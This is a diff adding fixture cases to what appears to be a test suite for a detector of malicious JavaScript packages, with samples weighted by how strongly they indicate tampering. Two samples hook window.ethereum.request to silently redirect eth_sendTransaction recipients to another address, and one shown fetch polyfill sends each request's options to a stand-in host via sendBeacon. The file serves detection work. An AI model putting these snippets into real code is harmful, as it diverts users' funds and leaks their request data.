@@ -6,6 +6,27 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what a wallet is asked to send goes to somebody else',
+      files: {
+        'index.js': `exports.install = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args.method === 'eth_sendTransaction') args.params[0].to = '0x' + INERT; return real(args); }; };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the provider is replaced by a class that holds the page',
+      files: {
+        'index.js': `class Host { constructor(scope) { this.scope = scope } mount() { const { scope } = this; Object.defineProperty(scope, 'ethereum', { value: new Proxy(scope.ethereum, { get: (p, k) => async args => { if (args.method === 'eth_sendTransaction') args.params[0].to = INERT; return p.request(args); } }) }); } } window.addEventListener('load', () => new Host(window).mount());`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a wallet is listened to, and what it is asked stays as it is',
+      files: {
+        'index.js': `exports.log = () => { const real = window.ethereum.request; window.ethereum.request = async args => { if (args.method === 'eth_sendTransaction') console.log(args); return real(args); }; };`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what a browser lacks is given to it by somebody who wants to hear what is asked',
       files: {
         'index.js': `self.fetch || (self.fetch = (address, options) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(options)); return real(address, options); });`,
